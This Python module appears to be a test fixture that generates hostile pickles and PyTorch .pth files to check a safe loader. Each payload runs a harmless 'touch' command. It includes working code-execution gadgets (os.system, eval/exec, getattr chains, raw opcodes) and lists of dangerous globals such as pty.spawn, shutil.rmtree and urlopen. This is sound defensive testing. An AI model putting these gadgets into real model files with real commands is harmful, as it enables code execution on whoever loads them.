"""Pickles that run something when an unpickler reads them: real forms, each with a command that leaves a file behind."""

import builtins
import functools
import operator
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path
from typing import Any

from ulmfit.files.torch_file import MAGIC, PROTOCOL


class Calls:
    """Pickled, it asks for `function` to be called with `arguments`; `function` may be a (module, name) string."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple[Any, ...]:
        return self.function, self.arguments

    def __call__(self) -> None: ...  # pickle asks whether what shall be called can be


def _system() -> Any:
    import os

    return os.system


def _text(value: str) -> bytes:
    """A string as protocol 2 writes it."""
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def call(module: str, name: str, *arguments: str) -> bytes:
    """A pickle that calls module.name(*arguments), which need not exist here."""
    return b"\x80\x02c%s\n%s\n(%stR." % (
        module.encode(),
        name.encode(),
        b"".join(map(_text, arguments)),
    )


def live(proof: Path) -> dict[str, bytes]:
    """Gadgets that make the file `proof` where `pickle.loads` reads them."""
    touch, python = f"touch {proof}", f"open({str(proof)!r}, 'w').close()"
    spelled = repr(touch).encode()
    made = Calls(_system(), touch)
    found = {f"reduce, protocol {number}": pickle.dumps(made, number) for number in range(6)}
    found |= {
        "GLOBAL": b"cposix\nsystem\n(S%s\ntR." % spelled,
        "INST": b"(S%s\niposix\nsystem\n." % spelled,
        "OBJ": b"(cposix\nsystem\nS%s\no." % spelled,
        "STACK_GLOBAL": b"\x80\x04" + _text("posix") + _text("system") + b"\x93(" + _text(touch) + b"tR.",
        "STACK_GLOBAL by memo, out of order": b"\x80\x04" + _text("system") + b"q\x05" + _text("posix") + b"q\x030h\x03h\x05\x93("
        + _text(touch) + b"tR.",
        "in a list": pickle.dumps(["a", made]),
        "in a dict": pickle.dumps({"a": [made]}),
        "as a key": b"}cposix\nsystem\n(S%s\ntRK\x01s." % spelled,
        "dotted name": b"\x80\x04" + _text("builtins") + _text("exec.__call__") + b"\x93(" + _text(python) + b"tR.",
        "broken behind it": pickle.dumps([made])[:-3] + b"\xff\xff",
        "getattr": pickle.dumps(Calls(Calls(getattr, Calls(__import__, "os"), "system"), touch)),
        "eval": pickle.dumps(Calls(builtins.eval, python)),
        "exec": pickle.dumps(Calls(builtins.exec, python)),
        "partial": pickle.dumps(Calls(functools.partial(_system(), touch))),
        "methodcaller": pickle.dumps(
            Calls(operator.methodcaller("system", touch), Calls(__import__, "os"))
        ),
        "loads within": pickle.dumps(Calls(pickle.loads, pickle.dumps(made))),
        "import": pickle.dumps(Calls(Calls(getattr, Calls(__import__, "subprocess"), "getoutput"), touch)),
    }  # fmt: skip
    return found


TORCH = (  # each runs code, loads a file that does, or calls what its arguments name
    ("torch.hub", "load"),
    ("torch", "load"),
    ("torch.serialization", "load"),
    ("torch.storage", "_load_from_bytes"),
    ("torch._tensor", "_rebuild_from_type_v2"),
    ("torch._utils", "_rebuild_wrapper_subclass"),
    ("torch._utils", "_rebuild_device_tensor_from_numpy"),
    ("torch._utils", "_rebuild_sparse_tensor"),
    ("torch._utils", "_rebuild_qtensor"),
    ("torch._utils", "_rebuild_meta_tensor_no_storage"),
    ("torch.jit", "load"),
    ("torch.jit._script", "unpackage_script_module"),
    ("torch.utils._config_module", "load_config"),
    ("torch.utils.collect_env", "run"),
    ("torch.distributed.rpc.internal", "_run_function"),
    ("torch._inductor.codecache", "compile_file"),
    ("torch.fx.graph", "_exec_with_source"),
    ("torch.package", "PackageImporter"),
    ("torch.nn", "Module"),
    ("torch", "FloatTensor"),
    ("__torch__", "Net"),  # TorchScript
)
OTHERS = (
    ("__builtin__", "eval"),
    ("__builtin__", "execfile"),
    ("builtins", "compile"),
    ("builtins", "bytearray"),  # no code, but as much memory as it asks for
    ("builtins", "open"),
    ("copyreg", "_reconstructor"),
    ("copyreg", "__newobj__"),
    ("copy_reg", "add_extension"),
    ("nt", "system"),
    ("os", "popen"),
    ("pty", "spawn"),
    ("subprocess", "check_output"),
    ("timeit", "timeit"),
    ("runpy", "_run_code"),
    ("numpy.testing._private.utils", "runstring"),
    ("importlib", "import_module"),
    ("marshal", "loads"),
    ("types", "FunctionType"),
    ("types", "CodeType"),
    ("code", "InteractiveInterpreter"),
    ("cProfile", "run"),
    ("doctest", "debug_script"),
    ("pip", "main"),
    ("idlelib.run", "Executive.runcode"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"),
    ("logging", "FileHandler"),
    ("shutil", "rmtree"),
    ("webbrowser", "open"),
    ("urllib.request", "urlopen"),
    ("socket", "create_connection"),
    ("numpy", "load"),
    ("numpy", "fromfile"),
    ("numpy.core.multiarray", "_reconstruct"),
    ("numpy.core.multiarray", "scalar"),
    ("fastai.learner", "load_learner"),
    ("fastcore.basics", "patch"),
    ("fastcore.foundation", "patch"),
    ("collections", "namedtuple"),
    ("collections.OrderedDict", "fromkeys"),
    ("functools", "reduce"),
    ("os", "systèm"),
    ("", ""),
)


def gadgets(proof: Path) -> dict[str, bytes]:
    """All of them by name."""
    found = live(proof)
    found |= {f"{m}.{n}": call(m, n, f"touch {proof}") for m, n in (*TORCH, *OTHERS)}
    found |= {
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n("
        + _text("touch")
        + _text(str(proof))
        + b"l\x85\x81.",
        "EXT1": b"\x80\x02\x82\x01.",
        "EXT4": b"\x80\x02\x84\x01\x00\x00\x00.",
        "PERSID": b"Pcposix\nsystem\n.",
        "NEWOBJ_EX": b"\x80\x04cposix\nsystem\n(" + _text("x") + b"t}\x92.",
        "BUILD of a list": b"\x80\x02](" + _text("a") + b"\x85b.",
        "NEXT_BUFFER": b"\x80\x05\x97.",
    }
    return found


def in_zip(pickled: bytes) -> bytes:
    """As the tree of a file of PyTorch's present format."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/data/0", bytes(8))
        archive.writestr("archive/version", b"3\n")
    return file.getvalue()


def in_legacy(pickled: bytes) -> bytes:
    """As the tree of a file of the format before."""
    head = (MAGIC, PROTOCOL, {"little_endian": True})
    return b"".join(pickle.dumps(part, 2) for part in head) + pickled + pickle.dumps([], 2)


WRAPPED: dict[str, Callable[[bytes], bytes]] = {
    "zip": in_zip,
    "legacy": in_legacy,
    "legacy, instead of the magic number": bytes,
    "legacy, in the list of storages": lambda pickled: (
        in_legacy(pickle.dumps({}, 2)).removesuffix(pickle.dumps([], 2)) + pickled
    ),
}


def hostile_weights(proof: Path) -> Iterator[tuple[str, bytes]]:
    """The name and content of a .pth file for every gadget in every place."""
    for name, pickled in gadgets(proof).items():
        for place, wrap in WRAPPED.items():
            yield f"{name}, {place}", wrap(pickled)
